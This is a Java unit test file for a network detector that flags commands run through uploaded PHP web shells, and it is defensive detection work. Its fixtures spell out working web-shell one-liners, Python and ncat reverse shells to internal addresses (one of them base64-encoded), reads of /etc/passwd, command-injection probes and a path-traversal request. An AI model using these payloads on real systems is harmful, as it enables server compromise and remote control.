package org.nta.detect.shell;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;

import org.junit.jupiter.api.Test;
import org.nta.detect.Finding;
import org.nta.detect.FindingType;
import org.nta.detect.Phase;
import org.nta.detect.Severity;
import org.nta.event.Event;

class WebShellCommandDetectorTest {
    private static final String ID_OUT = "uid=33(www-data) gid=33(www-data) groups=33(www-data)\n";

    private static List<Finding> run(Event... events) {
        WebShellCommandDetector d = new WebShellCommandDetector(ShellConfig.DEFAULTS);
        for (Event e : events) d.onEvent(e);
        return d.finish();
    }

    private static Event upload(String name, String code) {
        return Ev.tx(Ev.upload(Ev.web(1), 10, "/upload.php", "fileToUpload", name, "application/octet-stream", Ev.bytes(code)),
                200, "The file " + name + " has been uploaded.");
    }

    @Test
    void commandsThroughTheUploadedShell() {
        List<Finding> fs = run(upload("dbfunctions.php", "<?php system($_GET[\"cmd\"]); ?>"),
                Ev.tx(Ev.get(Ev.web(2), 20, "/uploads/dbfunctions.php?cmd=id"), 200, ID_OUT),
                Ev.tx(Ev.get(Ev.web(3), 30, "/uploads/dbfunctions.php?cmd=whoami"), 200, "www-data\n"),
                Ev.tx(Ev.get(Ev.web(4), 40, "/uploads/dbfunctions.php?cmd=python3%20-c%20%27import%20socket%2Csubprocess%2Cos%3B"
                        + "s%3Dsocket.socket()%3Bs.connect((%2210.0.0.66%22%2C4422))%3Bsubprocess.call(%5B%22/bin/sh%22%5D)%27"), 200, ""));
        assertThat(fs).extracting(f -> f.evidence().get("command")).containsExactly("id", "whoami",
                "python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"10.0.0.66\",4422));subprocess.call([\"/bin/sh\"])'");
        Finding id = fs.get(0);
        assertThat(id.type()).isEqualTo(FindingType.WEBSHELL_COMMAND);
        assertThat(id.phase()).isEqualTo(Phase.COMMAND_AND_CONTROL);
        assertThat(id.severity()).isEqualTo(Severity.CRITICAL);
        assertThat(id.techniques()).containsExactly("T1505.003", "T1059.004");
        assertThat(id.succeeded()).isTrue();
        assertThat(id.firstFrame()).isEqualTo(20);
        assertThat(id.lastFrame()).isEqualTo(22);
        assertThat(id.filter()).isEqualTo("frame.number in {20, 22}");
        assertThat(id.evidence()).containsEntry("uri", "/uploads/dbfunctions.php").containsEntry("parameter", "cmd")
                .containsEntry("method", "GET").containsEntry("encoding", "plain").containsEntry("wire_value", "cmd=id")
                .containsEntry("output", ID_OUT.strip()).containsEntry("request_frame", 20L).containsEntry("response_frame", 22L)
                .containsEntry("stream", 2).containsEntry("status", 200).containsEntry("confidence", "high")
                .containsEntry("upload_frame", 10L);
        assertThat(id.evidence().get("shell_user")).isEqualTo(java.util.Map.of("name", "www-data", "uid", 33, "text", "uid=33(www-data)"));
        Finding py = fs.get(2);
        assertThat(py.succeeded()).isNull(); // empty answer: the shell went elsewhere
        assertThat(py.severity()).isEqualTo(Severity.HIGH);
        assertThat(py.techniques()).contains("T1059.006");
        assertThat((List<?>) py.evidence().get("launches_shell")).hasSize(1);
    }

    @Test
    void postBodyAndBase64Parameters() {
        List<Finding> post = run(upload("img.phtml", "<?php system($_POST['c']); ?>"),
                Ev.tx(Ev.post(Ev.web(2), 20, "/uploads/img.phtml", "c=cat+%2Fetc%2Fpasswd"), 200, "root:x:0:0:root:/root:/bin/bash\n"));
        assertThat(post).hasSize(1);
        assertThat(post.get(0).evidence()).containsEntry("command", "cat /etc/passwd").containsEntry("method", "POST")
                .containsEntry("parameter_source", "form").containsEntry("wire_value", "c=cat+%2Fetc%2Fpasswd");
        List<Finding> b64 = run(upload("thumb.php", "<?php system(base64_decode($_GET['x'])); ?>"),
                Ev.tx(Ev.get(Ev.web(2), 20, "/uploads/thumb.php?x=aWQ%3d"), 200, ID_OUT),
                Ev.tx(Ev.get(Ev.web(3), 30, "/uploads/thumb.php?x=bmNhdCBmZDc3OjZiMDoxOjo2NiA0NDMgLWUgL2Jpbi9zaA%3d%3d"), 200, ""));
        assertThat(b64).extracting(f -> f.evidence().get("command")).containsExactly("id", "ncat fd77:6b0:1::66 443 -e /bin/sh");
        assertThat(b64).extracting(f -> f.evidence().get("encoding")).containsOnly("base64");
        assertThat(b64.get(0).evidence()).containsEntry("wire_value", "x=aWQ%3d");
    }

    @Test
    void commandInAHeaderTheShellReads() {
        var r = Ev.request(Ev.web(2), 20, "GET", "/uploads/h.php", List.of(new org.nta.event.HttpHeader("X-Cmd", "id")), null,
                new byte[0], List.of(), List.of());
        List<Finding> fs = run(upload("h.php", "<?php echo shell_exec($_SERVER['HTTP_X_CMD']); ?>"), Ev.tx(r, 200, ID_OUT));
        assertThat(fs).hasSize(1);
        assertThat(fs.get(0).evidence()).containsEntry("parameter", "HTTP_X_CMD").containsEntry("parameter_source", "header")
                .containsEntry("command", "id").containsEntry("wire_value", "X-Cmd: id");
    }

    @Test
    void withoutTheUploadTheOutputDecides() {
        List<Finding> fs = run(
                Ev.tx(Ev.get(Ev.web(2), 20, "/images/x.php?c=id"), 200, ID_OUT),
                Ev.tx(Ev.get(Ev.web(3), 30, "/images/x.php?c=ls"), 200, "a\nb\n"),          // same endpoint: counts
                Ev.tx(Ev.get(Ev.web(4), 40, "/images/y.php?c=ls"), 200, "a\nb\n"));          // another script: no proof
        assertThat(fs).extracting(f -> f.evidence().get("request_frame")).containsExactly(20L, 30L);
        assertThat(fs.get(0).evidence().get("confidence")).isEqualTo("medium");
        assertThat(fs.get(0).evidence().get("basis").toString()).contains("not captured");
        assertThat(fs.get(1).evidence().get("basis").toString()).contains("frame 20");
        assertThat(fs.get(0).evidence()).containsEntry("upload_frame", null);
    }

    @Test
    void lookAlikesAreNotWebShellCommands() {
        List<Finding> fs = run(
                // a sort parameter named like a command, answered by a normal page
                Ev.tx(Ev.get(Ev.web(2), 20, "/list.php?sort=id"), 200, "<html><table><tr><td>1</td></tr></table></html>"),
                // command injection probes are web attacks (the web detectors' business), not web shell use
                Ev.tx(Ev.get(Ev.web(3), 30, "/ping.php?host=127.0.0.1%3Bid"), 404, "Not Found"),
                Ev.tx(Ev.post(Ev.web(4), 40, "/ping.php", "host=127.0.0.1+%26%26+%24%28whoami%29+%60id%60"), 404, "Not Found"),
                // path traversal returning passwd: not a command
                Ev.tx(Ev.get(Ev.web(5), 50, "/download.php?file=../../../../etc/passwd"), 200, "root:x:0:0:root:/root:/bin/bash\n"),
                Ev.tx(Ev.get(Ev.web(5), 55, "/download.php?file=/etc/passwd"), 200, "root:x:0:0:root:/root:/bin/bash\n"),
                // a command-like value at a static path
                Ev.tx(Ev.get(Ev.web(6), 60, "/search?q=id"), 200, ID_OUT),
                // a search for "cat food" on a PHP page
                Ev.tx(Ev.get(Ev.web(7), 70, "/search.php?q=cat+food"), 200, "<html>3 results</html>"));
        assertThat(fs).isEmpty();
    }

    @Test
    void missingShellAnswers404AndFails() {
        List<Finding> fs = run(upload("s.php", "<?php system($_GET['c']); ?>"),
                Ev.tx(Ev.get(Ev.web(2), 20, "/uploads/s.php?c=id"), 404, "Not Found"));
        assertThat(fs).hasSize(1);
        assertThat(fs.get(0).succeeded()).isFalse();
        assertThat(fs.get(0).severity()).isEqualTo(Severity.HIGH);
    }

    @Test
    void requestsBeforeTheUploadOrToOtherServersDoNotCount() {
        var early = Ev.tx(Ev.get(Ev.web(0), 5, "/uploads/s.php?c=id"), 404, "");
        var other = Ev.tx(Ev.get(Ev.conn(9, "10.0.0.66", "10.0.0.99", 80), 30, "/uploads/s.php?c=uname"), 200, "<p>hi</p>");
        assertThat(run(early, upload("s.php", "<?php system($_GET['c']); ?>"), other)).isEmpty();
    }
}
